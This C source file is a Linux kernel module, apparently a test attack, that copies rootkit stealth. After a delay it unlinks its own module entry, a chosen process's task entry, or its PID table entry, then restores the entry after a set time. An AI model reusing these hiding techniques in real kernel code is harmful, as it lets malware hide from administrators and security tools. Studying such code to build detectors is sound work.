// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides something from a list of the kernel, as rootkits do, some time after its load: this module from
 * the list of modules, a process from the list of tasks or from the table of PIDs. After a while it comes
 * back, so that it can go.
 */
#include <linux/delay.h>
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/workqueue.h>

#include "attack.h"

static char *what = "module";
module_param(what, charp, 0400);
static int pid;
module_param(pid, int, 0400);
static unsigned int after;
module_param(after, uint, 0400);
MODULE_PARM_DESC(after, "milliseconds until it hides");
static unsigned int hold = 900;
module_param(hold, uint, 0400);
MODULE_PARM_DESC(hold, "milliseconds until it is back");

static struct pid *victim_pid;
static struct task_struct *victim;
static struct list_head *before;

static struct list_head *entry(void)
{
	return !strcmp(what, "module") ? &THIS_MODULE->list : &victim->tasks;
}

static void hide_entry(void)
{
	before = entry()->prev;
	list_del_rcu(entry());
}

static void hide(struct work_struct *work)
{
	if (strcmp(what, "pid"))
		hide_entry();
	else
		idr_replace(&init_pid_ns.idr, NULL, pid);
}
static DECLARE_DELAYED_WORK(hiding, hide);

static void come_back(struct work_struct *work)
{
	if (strcmp(what, "pid"))
		list_add_rcu(entry(), before);
	else
		idr_replace(&init_pid_ns.idr, victim_pid, pid);
}
static DECLARE_DELAYED_WORK(coming_back, come_back);

static int __init hide_init(void)
{
	if (strcmp(what, "module")) {
		victim_pid = find_get_pid(pid);
		victim = get_pid_task(victim_pid, PIDTYPE_PID);
		if (!victim)
			return -ESRCH;
	}
	schedule_delayed_work(&hiding, msecs_to_jiffies(after));
	schedule_delayed_work(&coming_back, msecs_to_jiffies(after + hold));
	return 0;
}

static void __exit hide_exit(void)
{
	flush_delayed_work(&hiding);
	flush_delayed_work(&coming_back);
	if (!victim)
		return;
	put_task_struct(victim);
	put_pid(victim_pid);
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_DESCRIPTION("Attack: hiding from a list of the kernel");
MODULE_LICENSE("GPL");
